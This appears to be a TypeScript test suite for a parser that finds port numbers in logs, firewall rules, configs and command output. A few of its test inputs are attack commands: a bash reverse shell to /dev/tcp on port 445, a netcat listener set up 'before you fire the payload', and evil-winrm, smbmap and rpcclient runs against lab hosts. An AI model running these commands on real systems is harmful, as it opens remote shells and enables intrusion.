            expect(findPorts(`${a}${join}${b} ${port} | Directory, Replication |`).map((f) => `${f.port}/${f.protocol}`)).toEqual(
              [`${port}/${a}`, `${port}/${b}`],
            );
          },
        ),
        { numRuns: propertyRuns(100) },
      );
      expect(findPorts("allow TCP 443 and UDP 53").map((f) => `${f.port}/${f.protocol}`)).toEqual(["443/TCP", "53/UDP"]);
    });

    it("a form's words between a port label and its number: `port default value of 1812`, `Port number field, 1813`", () => {
      expect(found("The port default value of 1812 is based on RFC 2138")).toEqual([1812]);
      expect(found("2. In the Radius Port number field, 1813 displays by default.")).toEqual([1813]);
    });

    it("a bulleted list of ports under a heading that names them, with the heading's protocol", () => {
      fc.assert(
        fc.property(fc.uniqueArray(fc.integer({ min: 1, max: 65535 }), { minLength: 1, maxLength: 6 }), (ports) => {
          const text = `## Summary\n* Hostname: HELPDESK\n* TCP Ports and Services\n${ports.map((p) => `  * ${p}\n    * a service`).join("\n")}\n* OS\n  * 2008`;
          expect(findPorts(text).map((f) => `${f.port}/${f.protocol}`)).toEqual(ports.map((p) => `${p}/TCP`));
        }),
        { numRuns: propertyRuns(100) },
      );
      expect(found("Open ports:\n- 22\n- 80\n- 3389")).toEqual([22, 80, 3389]);
      // a numbered list under no port heading, and a count under one, are no ports
      expect(readPaste("Steps:\n- 1\n- 2\n- 3").found).toEqual([]);
      expect(readPaste("Ports: see below\nChanges:\n- 22 files changed").found).toEqual([]);
    });

    it("tools named alone answer for their service: smbmap and rpcclient for SMB, telnet for Telnet", () => {
      expect(found("smbmap -H 10.10.10.248 -u 'null'\n[!] Authentication error on 10.10.10.248")).toEqual([445]);
      expect(found('rpcclient -U "" 10.10.10.248\nCannot connect to the server. Error was NT_STATUS_LOGON_FAILURE')).toEqual([
        445,
      ]);
      expect(found("$ telnet 10.10.10.98\nTrying 10.10.10.98...\nConnected to 10.10.10.98.")).toEqual([23]);
      // telnet used to try another port answers for that port
      expect(found("$ telnet 10.0.0.5 3389\nConnecting To 10.0.0.5...Could not open connection")).toEqual([3389]);
    });

    it("services named in other words: PowerShell remoting, time servers, shared folders, the SQL Server Browser", () => {
      expect(found("We block PowerShell Remote (5985) at the edge firewall.\nUse the bastion instead.")).toEqual([5985]);
      expect(found("2026-11-27 ERROR the PowerShell remoting session to web01 failed")).toEqual([5985, 5986]);
      expect(found("2026-11-27 ERROR sync with the time servers failed")).toEqual([123]);
      expect(found("共有フォルダにアクセスできません。\nエラー 0x80070035")).toEqual([445]);
      expect(found("2026-11-27 ERROR sqlbrowser did not answer")).toEqual([1434]);
    });

    it("xargs' and parallel's `-P 20` is how many run at once", () => {
      const reading = readPaste("done | xargs -n 1 -P 20 wget");
      expect(reading.found).toEqual([]);
      expect([...reading.nonPorts].sort((a, b) => a - b)).toEqual([1, 20]);
    });

    it("an https link to a page is no sign of WinRM over HTTPS; an endpoint's URL is", () => {
      const linked =
        "$ evil-winrm -r absolute.htb -i dc.absolute.htb\nData: For more information, check Evil-WinRM Github: https://github.com/Hackplayers/evil-winrm#Remote-path-completion\nInfo: Establishing connection to remote endpoint";
      // (read as a sign of TLS, the link would leave 5986 alone; WinRM with neither transport named is both)
      expect(found(linked)).toEqual(expect.arrayContaining([5985, 5986]));
      expect(found("2026-11-27 WinRM client cannot reach https://dc01.corp/wsman: timed out")).toContain(5986);
    });

    it("a scheme with an underscore is a scheme: Kafka's `LISTENER_BOB://kafka0:29092`", () => {
      expect(found("KAFKA_LISTENERS: LISTENER_BOB://kafka0:29092,LISTENER_FRED://localhost:9092")).toEqual([29092, 9092]);
    });
  });

  describe("forms read since the thirteenth fresh set", () => {
    it("each number of a grep pattern's alternatives after a socket lister", () => {
      expect(found("ss -tlnp | grep -E ':(80|443|3000|8080)'")).toEqual([80, 443, 3000, 8080]);
      // after a process lister they are process ids
      expect([...readPaste("ps aux | grep -E '(1234|5678)'").nonPorts]).toEqual([1234, 5678]);
    });

    it("an identifier ending in digits, an error number before a host, and a list of versions are no ports", () => {
      expect(
        found(
          "Error: listen EADDRINUSE: address already in use :::5000\n    at Server.setupListenHandle [as _listen2] (net.js:1313:16)",
        ),
      ).toEqual([5000]);
      expect(found("Connect failed: Network is unreachable, error number: 101, host: smtp.example.com:465")).toEqual([465]);
      expect(found("Vagrant forwarded 5985 (guest) => 55985 (host)")).toEqual([5985, 55985]);
      expect(found("SNMP agents listen on UDP port 161. SNMP versions 1 and 2c use community strings.")).toEqual([161]);
    });

    it("a list's protocol after its last port is every port's; a thousands separator makes no list", () => {
      fc.assert(
        fc.property(
          fc.uniqueArray(fc.integer({ min: 100, max: 65535 }), { minLength: 2, maxLength: 7 }),
          fc.constantFrom("tcp", "udp"),
          (ports, protocol) => {
            expect(findPorts(`sudo ufw allow ${ports.join(",")}/${protocol}`).map((f) => `${f.port}/${f.protocol}`)).toEqual(
              ports.map((p) => `${p}/${protocol.toUpperCase()}`),
            );
          },
        ),
        { numRuns: propertyRuns(100) },
      );
      expect(readPaste("1,000/tcp").found).toEqual([]);
    });

    it("`or` and `and` in other languages join a list: `port TCP 5022 ou 7022`, `5022 oder 7022`", () => {
      expect(findPorts("port TCP 5022 ou 7022").map((f) => `${f.port}/${f.protocol}`)).toEqual(["5022/TCP", "7022/TCP"]);
      expect(found("Port 5022 oder 7022")).toEqual([5022, 7022]);
      expect(found("порт 5022 или 7022")).toEqual([5022, 7022]);
    });

    it("Tomcat's connector names its port; Java's logger names a class and a line", () => {
      const log =
        '2025-09-24 22:49:45.383 [main] INFO  org.apache.coyote.http11.Http11NioProtocol:173 - Initializing ProtocolHandler ["http-nio-8089"]';
      expect(findPorts(log).map((f) => `${f.port}/${f.protocol}`)).toEqual(["8089/TCP"]);
      expect([...readPaste(log).nonPorts]).toContain(173);
      expect(found('INFO Starting ProtocolHandler ["https-jsse-nio-8443"]')).toEqual([8443]);
      expect(found("connect to DC01.corp.local:389 failed")).toEqual([389]);
    });

    it("a Markdown table is read by its header: its Port column, its row's protocol, never its Protocol number", () => {
      const table = [
        "| Protocol type | Protocol number | Port | Notes |",
        "| --- | --- | --- | --- |",
        "| TCP | 6 | 1433 \\(MS SQL\\) | The default port to access a Microsoft SQL Server database |",
        "| TCP | 6 | 5439 \\(Redshift\\) | The default port to access an Amazon Redshift cluster database |",
        "| UDP | 17 | 53 | DNS |",
      ].join("\n");
      // (the SQL Server and DNS words in the notes add those services' ports with no protocol)
      const read = findPorts(table);
      expect(read.filter((f) => f.protocol !== undefined).map((f) => `${f.port}/${f.protocol}`)).toEqual([
        "1433/TCP",
        "5439/TCP",
        "53/UDP",
      ]);
      expect(new Set(read.map((f) => f.port))).toEqual(new Set([1433, 5439, 53]));
      expect([...readPaste(table).nonPorts]).toEqual(expect.arrayContaining([6, 17]));
    });

    it("a data dictionary's row named as a port gives its sample value; a description's `port` labels no other cell", () => {
      const dictionary = [
        "|Standard Name|Field Name|Type|Description|Sample Value|",
        "|---|---|---|---|---|",
        "|process_id|ProcessId|UInt64|Process ID of the process which was permitted to bind to the local port.|`4556`|",
        "|src_port|SourcePort|UnicodeString|Port number which application was bind.|`3333`|",
      ].join("\n");
      expect(found(dictionary)).toEqual([3333]);
      expect(found("| Port | 3389 |")).toEqual([3389]);
    });

    it("an ICMP rule's from and to ports are a type and a code, within that rule only", () => {
      const cli = "--ip-permissions IpProtocol=icmp,FromPort=3,ToPort=4 IpProtocol=tcp,FromPort=22,ToPort=22";
      expect(found(cli)).toEqual([22]);
      expect([...readPaste(cli).nonPorts]).toEqual([3, 4]);
      const terraform =
        'ingress {\n  protocol    = "icmp"\n  from_port   = 7\n  to_port     = 7\n}\ningress {\n  from_port   = 80\n  to_port     = 80\n  protocol    = "tcp"\n}';
      expect(found(terraform)).toEqual([80]);
      expect(
        found('[{"IpProtocol": "icmp", "FromPort": 3, "ToPort": 4}, {"IpProtocol": "tcp", "FromPort": 443, "ToPort": 443}]'),
      ).toEqual([443]);
    });

    it("a CJK counter after a space, and a prefix length written alone, are no ports of a question", () => {
      expect(parseQuery(book, "ポートの範囲の 1 つです。ポート 135 を開く").ports.map((r) => r.from)).toEqual([135]);
      expect(parseQuery(book, "To specify a single IPv4 address, use the /32 prefix length.").ports).toEqual([]);
      expect(parseQuery(book, "allow tcp/443 from 10.0.0.0/16").ports.map((r) => r.from)).toEqual([443]);
    });
  });

  describe("forms read since the fourteenth fresh set", () => {
    it("a YAML key that names a port heads the list below it: Sigma's `dst_port:`", () => {
      fc.assert(
        fc.property(
          fc.uniqueArray(fc.integer({ min: 1, max: 65535 }), { minLength: 1, maxLength: 8 }),
          fc.constantFrom("dst_port", "DestinationPort|contains", "ports"),
          (ports, key) => {
            const rule = `detection:\n    selection:\n        ${key}:\n${ports.map((p) => `            - ${p}`).join("\n")}\n    condition: selection`;
            expect(found(rule)).toEqual(ports);
          },
        ),
        { numRuns: propertyRuns(100) },
      );
      expect(readPaste("selection_allow1:\n    action:\n        - forward\n        - 2").found).toEqual([]);
    });

    it("an XML element named as a port gives its value, whatever its attributes", () => {
      expect(found('<DestinationPort name="technique_id=T1571" condition="is">4444</DestinationPort>')).toEqual([4444]);
      expect(readPaste('<ProcessId condition="is">4444</ProcessId>').found).toEqual([]);
    });

    it("a port after an arrow or a quoted placeholder host, never a JSON key's value", () => {
      expect(found("plugin/loop: Loop (127.0.0.1:55953 -> :1053) detected")).toContain(1053);
      expect(found('    server "YourHostName OR IP":5001; #port')).toEqual([5001]);
      expect(readPaste('{"Wifi":{"AP":1,"SSId":"net","RSSI":80}}').found).toEqual([]);
    });

    it("`ufw status` rows are ports; iptables' numbered rows are not", () => {
      const ufw =
        "To                         Action      From\n--                         ------      ----\n80                         ALLOW       Anywhere\n445/tcp (v6)               DENY IN     Anywhere (v6)";
      expect(new Set(findPorts(ufw).map((f) => `${f.port}/${f.protocol}`))).toEqual(new Set(["80/undefined", "445/TCP"]));
      expect(
        readPaste("9    REJECT     tcp  --  anywhere             anywhere             tcp dpt:mysql").found.map((f) => f.port),
      ).toEqual([3306]);
    });

    it("bash's /dev/tcp path names a port; `ls -l`'s counts and sizes and an FTP reply's code do not", () => {
      expect(findPorts("bash -i >& /dev/tcp/192.168.49.195/445 0>&1").map((f) => `${f.port}/${f.protocol}`)).toEqual(["445/TCP"]);
      const ftp = "ftp> dir\n200 PORT command successful\n-rw-r--r--   1 ftp      ftp           901 Aug  2  2020 index.php.bak";
      expect(readPaste(ftp).found.map((f) => f.port)).toEqual([21]);
      expect([...readPaste(ftp).nonPorts]).toEqual(expect.arrayContaining([200, 901]));
    });

    it("mail, SOCKS, SIP and VNC servers named alone answer for their ports", () => {
      expect(found("Jan 10 postfix/smtpd[123]: lost connection after AUTH from unknown[10.0.0.5]")).toEqual([25]);
      expect(found("Jan 10 danted[4567]: block(1): tcp/accept ]: 10.0.0.5.4433 0.0.0.0.1080: error after reading")).toContain(
        1080,
      );
      expect(found("asterisk: Registration from '<sip:100@10.0.0.5>' failed for '10.0.0.9' - Wrong password")).toEqual([5060]);
      expect(found("screensharingd[2145]: Authentication: FAILED :: User Name: N/A :: Viewer Address: 10.0.0.5")).toEqual([5900]);
    });

    it("a run of numbers with spaces between them after a port label is a list, across a line continued with a backslash", () => {
      const snort =
        "preprocessor stream5_tcp: policy windows, timeout 180, \\\n    ports client 21 22 23 25 \\\n        161 445, \\\n    ports both 80 443 3389";
      expect(found(snort)).toEqual([21, 22, 23, 25, 161, 445, 80, 443, 3389]);
      expect(found("Open ports: 22 80 443")).toEqual([22, 80, 443]);
    });

    it("a tool's host after its flags, ELB's `HTTP:80/png`, Kibana's `http://0:5601`, ZooKeeper's tag, a port glued to Japanese", () => {
      expect(found("$ nc -v api 80\napi [172.18.0.101] 80 (http) : Connection refused")).toEqual([80]);
      expect(findPorts("--health-check Target=HTTP:80/png,Interval=30").map((f) => `${f.port}/${f.protocol}`)).toEqual([
        "80/TCP",
      ]);
      expect(found('{"message":"Server running at http://0:5601"}')).toEqual([5601]);
      expect(
        found("2015-07-29 19:04:12,394 - INFO  [/10.10.34.11:3888:QuorumCnxManager$Listener@493] - Received connection request"),
      ).toEqual([3888]);
      expect(findPorts("zabbixサーバは10051/tcpでリッスンしているとする。").map((f) => `${f.port}/${f.protocol}`)).toEqual([
        "10051/TCP",
      ]);
    });
  });

  describe("forms read since the fifteenth fresh set", () => {
    const ports = (text: string) => searchRules(book, text).found.map((f) => f.port);
    const questionPorts = (text: string) => parseQuery(book, text).ports.map((r) => r.from);

    it("a port set against another (`instead of`, `rather than`) is read with it; durations and versions are not", () => {
      expect(found("i set the port (10051 instead of 10050 default on zabbix_agentd.conf) and it works.")).toEqual([
        10051, 10050,
      ]);
      expect(found("the listener is on port 5986 rather than 5985 now")).toEqual([5986, 5985]);
      expect(readPaste("Windows Server 2016 vs 2022 ports for WinRM").found.map((f) => f.port)).toEqual([5985, 5986]);
      expect(found("Request timeout after 30 instead of 60 seconds: connect 10.0.0.5:443")).toEqual([443]);
    });

    it("OpenVPN's `remote host port` directive opening its line is a port; `remote` in a sentence is not", () => {
      expect(found("client\ndev tun\nproto udp\nremote vpn.example.com 1194\nresolv-retry infinite")).toEqual([1194]);
      expect(found("Error: the remote host 5 times refused.\nTry again")).toEqual([]);
    });

    it("a number written with a leading zero and no label is a mode, a date or a build, not a port", () => {
      const mode = readPaste("#SecUploadFileMode 0600\n#SecUploadKeepFiles Off");
      expect(mode.found).toEqual([]);
      expect([...mode.nonPorts]).toContain(600);
      expect(questionPorts("#SecUploadFileMode 0600")).toEqual([]);
      expect(questionPorts("建议检查一下防火墙设置，0201版本默认的防火墙是不允许转发的")).toEqual([]);
    });

    it("an address's port with its protocol, bracketed or not, keeps the protocol", () => {
      const wazuh =
        "2023/10/17 08:35:57 wazuh-agentd: ERROR: (1216): Unable to connect to '[10.0.0.253]:1514/tcp': 'Connection refused'.";
      expect(findPorts(wazuh).map((f) => `${f.port}/${f.protocol}`)).toEqual(["1514/TCP"]);
      expect(findPorts("send to 10.0.0.5:514/udp failed").map((f) => `${f.port}/${f.protocol}`)).toEqual(["514/UDP"]);
    });

    it("conntrack's protocol number and timeout after the protocol's name are not ports", () => {
      const conntrack =
        "    [NEW] udp      17 30 src=10.0.0.5 dst=8.8.8.8 sport=36037 dport=53 [UNREPLIED] src=8.8.8.8 dst=10.0.0.5 sport=53 dport=36037\n" +
        " [UPDATE] tcp      6 432000 ESTABLISHED src=10.0.0.5 dst=10.0.0.9 sport=38784 dport=80 src=10.0.0.9 dst=10.0.0.5 sport=80 dport=38784 [ASSURED]";
      const read = readPaste(conntrack);
      expect(new Set(read.found.map((f) => f.port))).toEqual(new Set([53, 80]));
      expect([...read.nonPorts]).toEqual(expect.arrayContaining([17, 30, 6]));
      expect([...readPaste("allow tcp 6 3389 from 10.0.0.0/8").nonPorts]).not.toContain(6);
    });

    it("a listener named before its URL's scheme: `pulsar:pulsar://localhost:6650`", () => {
      expect(found("advertisedListeners=pulsar:pulsar://localhost:6650,kafka_internal:pulsar://localhost:9092")).toEqual([
        6650, 9092,
      ]);
    });

    it("a count or a wait after ping's, hping's or nc's flag is no port; the host's port after them is", () => {
      expect(questionPorts("hping3 -c 1 -S -p 445 $hostname to test for connectivity to a cifs share")).toEqual([445]);
      expect(found("nc -w 3 10.0.0.5 445")).toEqual([445]);
      expect(readPaste("ping -n 4 10.0.0.5").found).toEqual([]);
    });

    it("a day or a year beside a month's name, or a year after `since`/`depuis`/`seit`, is no port", () => {
      const prose = "Une version de Windows sortie le 31 juillet 1996. SMB existe depuis 1985 : tout cela ne nous rajeunit pas.";
      expect([...readPaste(prose).nonPorts]).toEqual(expect.arrayContaining([31, 1996, 1985]));
      expect(questionPorts(prose).filter((n) => [31, 1996, 1985].includes(n))).toEqual([]);
      expect([...readPaste("Publicado el 4 de julio de 2019 por admin").nonPorts]).toEqual(expect.arrayContaining([4, 2019]));
      // `in` names no year: ufw's `allow in 2049` is NFS's port
      expect(questionPorts("sudo ufw allow in 2049")).toEqual([2049]);
    });

    it("a question's number the text marks as something else is dropped, whatever the words around it; the others stay", () => {
      expect(questionPorts("The termservice port is mentioned as 8080 instead of 3389 in step 1")).toEqual([3389, 8080]);
      expect(questionPorts("RDP on 3389 and 3390 broke on 5 Mar")).toEqual([3389, 3390]);
    });

    it("WinRM named with both HTTP and HTTPS answers for both ports; HTTPS alone for 5986", () => {
      const both =
        "By default listener is created for http transport with 'winrm quickconfig'. We need to create listener for https transport.";
      expect(ports(both)).toEqual([5985, 5986]);
      expect(ports("winrm over https fails from the jump host. It worked yesterday.")).toEqual([5986]);
      const message =
        "Test-WSMan -UseSSL srv\nThe WinRM client received an HTTP server error status (500), but the remote service did not include any other information";
      expect(ports(message)).toEqual([5986]);
    });

    it("a DHCP option set by a call is no port; Docker's flag glued to its published ports is", () => {
      const dhcp = readPaste("packet.setOption(60, strToList('PXEClient'))\npacket.setOption(67, strToList('/pxelinux.0'))");
      expect([...dhcp.nonPorts]).toEqual(expect.arrayContaining([60, 67]));
      expect(found('the external port that is mapped in "-p98:98" is not used by Windows')).toEqual([98]);
      expect(findPorts("docker run -p8600:53/udp consul").map((f) => `${f.port}/${f.protocol}`)).toEqual(["8600/UDP", "53/UDP"]);
    });

    it("a note after a number that names it a port makes it one; a count of ports does not", () => {
      expect(readPaste("Found 3 (closed ports) and 2 (filtered ports)\nDone").found).toEqual([]);
      expect(found("output data to localhost (wrong server) and 9200 (wrong port). The server is listening on 5140.")).toEqual([
        9200, 5140,
      ]);
      expect(readPaste("we opened 5 (number of ports) in total.\nnothing works").found).toEqual([]);
    });

    it("a narrow range is read port by port, a span of up to 1,000 ports by its ends, a scan's range not at all; iptables' `dpts:` ranges", () => {
      expect(found("RDP Port Range 3389-3390 is open")).toEqual([3389, 3390]);
      expect(found("Our PBX is using RTP Port Range 10000-20000 for media.")).toEqual([]);
      expect(found("I am running with the default config (PASV ports 21000-21010).")).toEqual([21000, 21010]);
      expect(found("nmap -p 1-65535 -T4 10.0.0.5")).toEqual([]);
      const iptables =
        "ACCEPT     tcp  --  anywhere             anywhere             tcp dpts:5985:5986\n" +
        "REDIRECT   tcp  --  anywhere             anywhere             tcp dpts:ssh:24 redir ports 1";
      expect(found(iptables)).toEqual(expect.arrayContaining([5985, 5986, 22, 23, 24]));
    });

    it("a protocol ending the line before labels nothing on the next; a Ruby backtrace's pseudo-file line is no port", () => {
      expect(readPaste("transport=udp\n\n[1060] ; the WebRTC client\ntype=friend").found.map((f) => f.port)).not.toContain(1060);
      expect(found("udp 1060 blocked")).toEqual([1060]);
      // an AWS console's security group rule, one cell per line
      expect(findPorts("sgr-0abc\nIPv4\nCustom TCP\nTCP\n5986\n0.0.0.0/0").map((f) => `${f.port}/${f.protocol}`)).toEqual([
        "5986/TCP",
      ]);
      const ruby =
        "WinRM::WinRMHTTPTransportError: Bad HTTP response returned from server (503).\n    from (irb):10\n    from /home/u/.rvm/bin/irb:13:in `<main>'";
      expect(readPaste(ruby).found.map((f) => f.port)).not.toContain(10);
      expect(found("connect to (IP of the remote server):161 failed")).toEqual([161]);
    });

    it("SSH named by its host-key check or its file tools", () => {
      expect(ports("pacemaker-execd[1005]: notice: error: Cannot recv data: Host key verification failed.")).toEqual([22]);
      // (`scp` is also a Service Control Policy in AWS: not a word for SSH)
      expect(ports("Our SCP blocks this. An explicit deny in a service control policy")).toEqual([]);
      // an identifier in mixed case with underscores is no host: pacemaker's operation key and call id
      expect(readPaste("notice: hypervisor3-SELOG_migrate_to_0:71 [ error ]").found).toEqual([]);
    });

    it("AD Web Services, SMB by its dialect, NetBT, Wazuh, MongoDB, Redis, RabbitMQ, Webmin and Winbox named alone", () => {
      expect(ports("Error = Get-ADUser: Unable to find a default server with Active Directory Web Services running.")).toEqual([
        9389,
      ]);
      expect(ports("[*] SMBv3.0 dialect used\n[-] rpc_s_access_denied")).toEqual([445]);
      expect(ports("Un défaut perturbe les connexions SMBv1 via NetBT.\nCe souci concerne Windows Server.")).toEqual(
        expect.arrayContaining([139]),
      );
      expect(ports("2023/08/23 04:56:12 wazuh-authd: INFO: Client timeout from 192.168.2.150")).toEqual([1515]);
      expect(ports("[initandlisten] Failed to set up listener: SocketException: Address already in use\nmongod exited")).toEqual([
        27017,
      ]);
      expect(ports("Jan 10 webmin[123]: Invalid login as root from 10.0.0.5")).toEqual([10000]);
      expect(ports("Jan 10 router: login failure for user admin from 10.0.0.5 via winbox")).toEqual([8291]);
    });
  });

  describe("forms read since the sixteenth fresh set", () => {
    const ports = (text: string) => searchRules(book, text).found.map((f) => f.port);
    const questionPorts = (text: string) => parseQuery(book, text).ports.map((r) => r.from);

    it("services named by their tools, messages and phrases answer for their ports", () => {
      expect(ports("xrdp[611]: (611)(139990754588480)[INFO ] connected client computer name: calibre")).toEqual([3389]);
      expect(
        ports(
          'The mapped network drive could not be created because the following error has occurred:\n"The specified network name is no longer available."',
        ),
      ).toEqual([445]);
      expect(
        ports("SSM Agent is not online\nThe SSM Agent was unable to connect to a Systems Manager endpoint to register itself."),
      ).toEqual([443]);
      expect(
        ports("When connecting through TS gateway I get\n[ERROR][com.freerdp.core.gateway.tsg] - tsg_check failure"),
      ).toContain(443);
      expect(
        ports("Aug 14 17:06:46 ix udhcpc[4365]: broadcasting discover\nAug 14 17:07:16 ix udhcpc[4737]: action leasefail"),
      ).toEqual([67, 68]);
      expect(ports("OSError: [Errno 48] Address already in use\n    zeroconf = Zeroconf()")).toEqual([5353]);
      expect(ports(";; QUESTION SECTION:\n;23.2.31.172.in-addr.arpa. IN PTR\n;; ANSWER SECTION:")).toEqual([53]);
      expect(
        ports("The Windows Time service (W32 Time) syncs the clock. By default a domain member follows the hierarchy."),
      ).toEqual([123]);
      expect(ports("To verify connectivity to ports used for remote procedure call (RPC). Version 2 is out.")).toEqual([135]);
    });

    it("Docker's remote API names its ports; its local socket and its daemon's name do not", () => {
      expect(found("Never expose 2375, the Docker remote API has no authentication. Use 2376 with mutual TLS.")).toEqual([
        2375, 2376,
      ]);
      expect(ports("Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?")).toEqual(
        [],
      );
    });

    it("SSHFS-Win's UNC path is SSH, not SMB", () => {
      expect(findPorts("dir \\\\sshfs.r\\deck@steamdeck").map((f) => f.port)).toEqual([22]);
      expect(findPorts("dir \\\\fileserver\\deck").map((f) => f.port)).toEqual([445]);
    });

    it("advice to use TLS (`HTTPS transport must be used`) answers for both transports, not TLS alone", () => {
      const trustedHosts =
        "Enter-PSSession : Connecting to remote server failed with the following error message : The WinRM client cannot process the request. If the authentication scheme is different from Kerberos, or if the client computer is not joined to a domain, then HTTPS transport must be used or the destination machine must be added to the TrustedHosts configuration setting.";
      expect(ports(trustedHosts)).toEqual(expect.arrayContaining([5985, 5986]));
      expect(ports("ldap_modify: Server is unwilling to perform (53)\n\tadditional info: SSL must be used")).toEqual([389, 636]);
    });

    it("two ports after their protocol or before a state, each a port: `TCP 445/139`, `8000/8001 are already in use`", () => {
      expect(
        findPorts("- Network reachability / port blocking (TCP 445/139 blocked)").map((f) => `${f.port}/${f.protocol}`),
      ).toEqual(["445/TCP", "139/TCP"]);
      expect(found("This is the error that is thrown if 8000/8001 are already in use, which seems long")).toEqual([8000, 8001]);
      expect(readPaste("psping output: TCP 10/10 succeeded to 10.0.0.5:445").found.map((f) => f.port)).toEqual([445]);
    });

    it("a list whose ports each carry a name in parentheses is one list", () => {
      expect(found("For web servers, ensure ports 80 (HTTP) and 443 (HTTPS) are open.")).toEqual([80, 443]);
      expect(found("Open ports 135 (RPC), 445 (SMB), 3389 (RDP) on the DC")).toEqual([135, 445, 3389]);
      expect(found("port 443 (https) and 30 seconds later it failed")).toEqual([443]);
    });

    it("a product's version, a range of a quantity and an HTTP status with its reason are no ports", () => {
      expect(readPaste("  • Microsoft .NET Framework 4 or later\n  • PowerShell 7 is installed").found).toEqual([]);
      expect(found("telnet node 80\nConnected")).toEqual([80]);
      expect(questionPorts("About 5 to 10 minutes lost each time, depending on how many containers I have to restart.")).toEqual(
        [],
      );
      expect(
        questionPorts(
          "I could not reproduce a 501 InternalFailure but I got a 400 TargetNotConnected when the agent was not running",
        ),
      ).toEqual([]);
      expect(found("DestinationPort: 443  DestinationPortName: https")).toEqual([443]);
    });

    it("Windows' `find` filters netstat by a port like grep", () => {
      expect(found('netstat -an 1 | find "4444" | find "ESTABLISHED"')).toEqual([4444]);
    });

    it("an event's id in Portuguese, Spanish or German is no port", () => {
      expect([...readPaste("Este artigo resolve o ID de evento 4013 registado no registo").nonPorts]).toContain(4013);
    });
  });

  describe("forms read since the seventeenth fresh set", () => {
    it("ufw's commands and its numbered status rows are ports; the rule numbers are not", () => {
      expect(found('`sudo ufw allow 5432 comment "{{Service}}"`\n\n`sudo ufw deny 80`')).toEqual([5432, 80]);
      const numbered =
        "Status: active\n\n     To                         Action      From\n     --                         ------      ----\n[ 1] 22                         ALLOW IN    Anywhere\n[ 2] 443                        ALLOW IN    Anywhere";
      const read = readPaste(numbered);
      expect(read.found.map((f) => f.port)).toEqual([22, 443]);
      expect([...read.nonPorts]).toEqual(expect.arrayContaining([1, 2]));
    });

    it("nc's flags run together with the port's last (`-nvlp 4444`); PowerShell's `-eq` compares a port or a protocol", () => {
      expect(found("make sure `nc -nvlp 4444` is listening before you fire the payload.")).toEqual([4444]);
      const filter =
        'Get-NetFirewallRule -Name "HNS*" | Get-NetFirewallPortFilter | where Protocol -eq UDP | where LocalPort -eq 53';
      expect(findPorts(filter).map((f) => `${f.port}/${f.protocol}`)).toEqual(["53/UDP"]);
    });

    it("sshd's client address and port is the client's side, not the port the text is about", () => {
      const sshd =
        "Jul  1 09:30:56 usbkey sshd[8807]: fatal: Timeout before authentication for 192.168.9.212 port 47056\nDec  1 18:59:33 host sshd[1189573]: banner exchange: Connection from 59.91.122.57 port 34388: invalid format";
      expect(found(sshd)).toEqual([22]);
    });

    it("an event message's insertion strings are no ports", () => {
      const template = "Source Port:  %5  Destination Address: %6  Destination Port:  %7  Protocol:  %8";
      expect(readPaste(template).found).toEqual([]);
      expect([...readPaste(template).nonPorts]).toEqual(expect.arrayContaining([5, 7]));
    });

    it("netstat's raw sockets give a protocol's number; BSD's `netstat -A` columns before the address are counts", () => {
      const linux =
        "Proto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program name\ntcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN      1206/sshd\nraw6       0      0 :::58                   :::*                    7           865/NetworkManager";
      expect(found(linux)).toEqual([22]);
      const bsd =
        "Tcpcb            Proto Rexmit OOORcv 0-win  Local Address      Foreign Address\nfffff80003df43d0 tcp4       3      0      0 192.168.71.1.ssh   192.168.71.1.64330\nfffff80003df47a0 tcp4       0      0      0 localhost.smtp     *.*";
      expect(found(bsd)).toEqual([22, 25]);
    });

    it("Cisco ASA's and PIX's address/port: the destination's port with the line's protocol; a CIDR's prefix is none", () => {
      const asa =
        "%ASA-2-106001: Inbound TCP connection denied from 111.93.241.59/54322 to 116.6.127.122/1433 flags SYN on interface outside";
      expect(findPorts(asa).map((f) => `${f.port}/${f.protocol}`)).toEqual(["1433/TCP"]);
      const flow = "%ASA-3-421001: UDP flow from inside:10.233.19.92/60803 to outside:8.8.8.8/53 is dropped";
      expect(findPorts(flow).map((f) => `${f.port}/${f.protocol}`)).toEqual(["53/UDP"]);
      expect(readPaste("route add 10.0.0.0/24 via 10.0.0.1\nip route 192.168.0.0/16").found).toEqual([]);
    });

    it("Telnet's `OPEN host port` names the port; nmap's `995 filtered ports` counts them", () => {
      expect(
        found("Microsoft Telnet> OPEN mail1.fabrikam.com 25\n220 mail1.fabrikam.com Microsoft ESMTP MAIL Service ready"),
      ).toEqual([25]);
      const nmap = "Not shown: 1000 open|filtered ports, 995 filtered ports\nPORT     STATE SERVICE\n80/tcp   open  http";
      expect(found(nmap)).toEqual([80]);
      expect([...readPaste(nmap).nonPorts]).toContain(995);
      expect(
        found(
          "Network Information > Destination Port: Destination port number (3389)\nNetwork Information > Protocol: Protocol used (6=TCP)",
        ),
      ).toEqual([3389]);
    });

    it("SMTP over TLS named by postfix's service (smtps), SSH by VShell", () => {
      const smtps = "Jan 10 mail postfix/smtps/smtpd[1234]: warning: unknown[10.0.0.5]: SASL LOGIN authentication failed";
      expect(searchRules(book, smtps).found.map((f) => f.port)).toEqual([465]);
      expect(searchRules(book, "Jan 10 host VShell[996]: Connection accepted from 10.0.0.5").found.map((f) => f.port)).toEqual([
        22,
      ]);
    });

    it("DNS named by a zone transfer; a port numbered in Japanese with 番", () => {
      expect(
        searchRules(
          book,
          "[1387348935] nsd[23600]: info: axfr for zone domain.nl. from client 192.0.2.115 refused, no acl matches.",
        ).found.map((f) => f.port),
      ).toEqual([53]);
      expect(found("8443番ポートにhttpsでアクセスする")).toContain(8443);
    });
  });
});

describe("pasted text: records read by their fields' positions", () => {
  const withProtocols = (text: string) => findPorts(text).map((f) => `${f.port}/${f.protocol ?? ""}`);

  it("pfSense's and OPNsense's filterlog: the service's port and protocol; the TTL, lengths and ids are none", () => {
    // the field order of pfSense's "Filter Log Format" documentation, IPv4 then IPv6
    const v4 =
      "Nov 28 09:12:01 fw filterlog[4410]: 5,,,1000000103,em0,match,block,in,4,0x0,,128,2187,0,DF,6,tcp,52,203.0.113.9,10.0.1.20,61544,3389,0,S,1185462391,,8192,,mss;nop;wscale;nop;nop;sackOK";
    expect(withProtocols(v4)).toEqual(["3389/TCP"]);
    expect(readPaste(v4).found.map((f) => f.port)).not.toContain(128);
    const reply =
      "Nov 28 09:12:02 fw filterlog[4410]: 7,,,1000000104,em0,match,pass,out,4,0x0,,64,0,0,DF,6,tcp,40,10.0.1.20,203.0.113.9,5986,61601,0,A,,1,65535,,";
